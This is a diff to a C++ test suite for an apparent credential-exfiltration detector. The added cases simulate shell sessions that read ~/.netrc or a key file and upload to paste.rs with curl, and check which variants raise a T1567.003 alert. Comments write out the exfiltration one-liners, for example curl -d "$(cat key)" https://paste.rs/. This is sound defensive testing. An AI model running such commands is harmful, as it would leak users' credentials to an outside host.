@@ -30,6 +30,21 @@ void expect_alert(const Timeline& tl, const std::string& subtechnique, const std
     CHECK(std::clamp(sum, 0, 100) == a->risk_score);
 }
 
+// `bash -c '...; LAST'`: bash execs its last command, which becomes the parent of the earlier ones.
+ProcessRef exec_into(Timeline& tl, ProcessRef process, std::vector<std::string> args, std::uint64_t stdout_pipe)
+{
+    process.executable = "/usr/bin/" + args.front();
+    process.name = args.front();
+    process.args = std::move(args);
+    process.stdout_pipe = stdout_pipe;
+    process.stdout_kind = stdout_pipe ? StdoutKind::pipe : StdoutKind::other;
+    tl.feed(ExecEvent{tl.t, process});
+    tl.step();
+    return process;
+}
+
+constexpr std::uint64_t harness_pipe = 555;  // the stdout every command of the session inherits
+
 }  // namespace
 
 TEST_CASE("attack 1: slack webhook with .netrc attached alerts T1567.004")
@@ -383,6 +398,57 @@ TEST_CASE("variant: the same small exchange with a code host after reading a tok
     tl.read(py, home + "/.netrc", 411);
     tl.transfer(py, "api.github.com", 1253, 2257);
     CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: an earlier command's output to /dev/null does not feed the shell's exec'd last command")
+{
+    // bash -c 'cat ~/.netrc > /dev/null; head -c 200000 /dev/urandom > pkg.tgz; curl -T pkg.tgz ...'
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", home + "/.netrc"}, {}, 0, 0, 0, StdoutKind::other);
+    tl.read(cat, home + "/.netrc", 3400);
+    tl.exit(cat);
+    auto curl = exec_into(tl, tl.shell, {"curl", "-T", "pkg.tgz", "https://paste.rs/"}, harness_pipe);
+    tl.read(curl, home + "/pkg.tgz", 200'000);
+    tl.transfer(curl, "paste.rs", 201'000, 400);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: an earlier pipeline's output went to its own reader, not to the exec'd uploader")
+{
+    // bash -c 'cat key | grep -c x; curl -d hello ...'
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 800);
+    auto grep = tl.spawn(tl.shell, {"grep", "-c", "x"}, {}, 0, 800, harness_pipe);
+    tl.read(cat, key, 411);
+    tl.exit(cat);
+    tl.exit(grep);
+    auto curl = exec_into(tl, tl.shell, {"curl", "-d", "hello", "https://paste.rs/"}, harness_pipe);
+    tl.transfer(curl, "paste.rs", 1300, 400);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: command substitution feeds the exec'd uploader")
+{
+    // bash -c 'curl -d "$(cat key)" https://paste.rs/': cat writes to a pipe bash reads itself.
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 901);
+    tl.read(cat, key, 411);
+    tl.exit(cat);
+    auto curl = exec_into(tl, tl.shell, {"curl", "-d", "[REDACTED BODY]", "https://paste.rs/"}, harness_pipe);
+    tl.transfer(curl, "paste.rs", 1300, 400);
+    expect_alert(tl, "T1567.003", "paste");
+}
+
+TEST_CASE("variant: x=$(cat key); curl -d \"$x\" (curl forked): what fed the shell reaches its child")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 902);
+    tl.read(cat, key, 411);
+    tl.exit(cat);
+    tl.step(100);
+    auto curl = tl.spawn(tl.shell, {"curl", "-d", "@-", "https://paste.rs/"}, {}, 0, 0, harness_pipe);
+    tl.transfer(curl, "paste.rs", 1300, 400);
+    expect_alert(tl, "T1567.003", "paste");
 }
 
 TEST_CASE("variant: git push over ssh reads its own key: silent")
